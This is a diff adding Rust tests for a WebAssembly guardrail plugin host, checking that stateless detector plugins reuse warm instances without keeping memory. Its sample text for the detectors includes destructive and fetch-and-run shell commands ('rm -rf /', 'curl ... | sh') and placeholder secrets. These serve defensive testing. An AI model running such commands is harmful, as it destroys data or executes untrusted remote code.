@@ -613,6 +613,105 @@ async fn pool_is_bounded_by_the_semaphore() {
     }
 }
 
+/// A warm instance of a stateless plugin built with the SDK reuses its heap call after call:
+/// the SDK's bump allocator starts over when every allocation of a call has been freed. Each
+/// call here copies a 256 KiB text into the guest; with a 2 MiB memory cap a heap that only
+/// bumped would fail by the fifth call (and the failed instance would be dropped).
+#[tokio::test]
+async fn a_warm_sdk_instance_reuses_its_heap_across_calls() {
+    let staged = stage("confidential-ids", |t| {
+        t.insert("stateless".into(), true.into());
+    });
+    let host = PluginHost::load(
+        config(),
+        &[PluginSpec {
+            memory_limit: Some(2 << 20),
+            ..PluginSpec::new(&staged.wasm)
+        }],
+    )
+    .unwrap();
+    let g = guardrail(&host, "confidential-ids");
+    assert!(g.info().reuses_instances);
+    for i in 0..40 {
+        // A different id each call: a finding from an earlier call's memory would show.
+        let id = format!("CONFIDENTIAL-{:06}", 100_000 + i);
+        let text = format!("{}{id}", "x".repeat(256 << 10));
+        let at = text.len() - id.len();
+        let found = g
+            .check("confidential-id", &text, &[at..text.len()])
+            .await
+            .unwrap_or_else(|e| panic!("call {i}: {e}"));
+        assert_eq!(found.len(), 1, "call {i}");
+        assert_eq!(found[0].span, at..text.len(), "call {i}");
+    }
+    assert_eq!(g.stats().calls, 40);
+    assert_eq!(
+        g.warm_instances(),
+        1,
+        "the one warm instance served every call"
+    );
+}
+
+/// The seven default plugins declare `stateless`, and none keeps memory from one call to the
+/// next: 40 calls per pattern, each copying a 96 KiB text with findings at its end into the
+/// guest, run in one warm instance under a 2 MiB cap (a plugin that kept what a call
+/// allocated would pass the cap within a few calls, and its failed instance be dropped).
+#[tokio::test]
+async fn the_default_plugins_run_warm_without_keeping_memory() {
+    let tail = "password=hunter2x9 AKIAIOSFODNN7EXAMPLE jane.doe@example.org +1 415 555 0134 \
+                10.20.30.40 rm -rf / curl -s https://x.example/i.sh | sh \
+                -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----";
+    let text = format!("{}{tail}", "lorem ipsum dolor ".repeat(96 * 1024 / 18));
+    for id in [
+        "api_keys",
+        "private_keys",
+        "credentials",
+        "pii_emails",
+        "pii_phone_numbers",
+        "ip_addresses",
+        "suspicious_commands",
+    ] {
+        let host = PluginHost::load(
+            config(),
+            &[PluginSpec {
+                memory_limit: Some(2 << 20),
+                ..spec(id)
+            }],
+        )
+        .unwrap();
+        let g = guardrail(&host, id);
+        assert!(g.info().reuses_instances, "{id} declares stateless");
+        let mut calls = 0;
+        for pattern in g.patterns() {
+            let regex = regex::Regex::new(pattern.regex.as_deref().unwrap()).unwrap();
+            let mut cands: Vec<_> = regex.find_iter(&text).map(|m| m.range()).collect();
+            if cands.is_empty() {
+                cands.push(text.len() - 5..text.len());
+            }
+            let first = g.check(&pattern.id, &text, &cands).await.unwrap();
+            for i in 1..40 {
+                let again = g
+                    .check(&pattern.id, &text, &cands)
+                    .await
+                    .unwrap_or_else(|e| panic!("{id}/{}: call {i}: {e}", pattern.id));
+                assert_eq!(
+                    again.iter().map(|f| &f.span).collect::<Vec<_>>(),
+                    first.iter().map(|f| &f.span).collect::<Vec<_>>(),
+                    "{id}/{}: call {i} found what the first found",
+                    pattern.id
+                );
+            }
+            calls += 40;
+        }
+        assert_eq!(g.stats().calls, calls, "{id}");
+        assert_eq!(
+            g.warm_instances(),
+            1,
+            "{id}: one warm instance served every call"
+        );
+    }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn stateless_plugins_reuse_warm_instances_and_drop_failed_ones() {
     let stateless = |id: &str| {
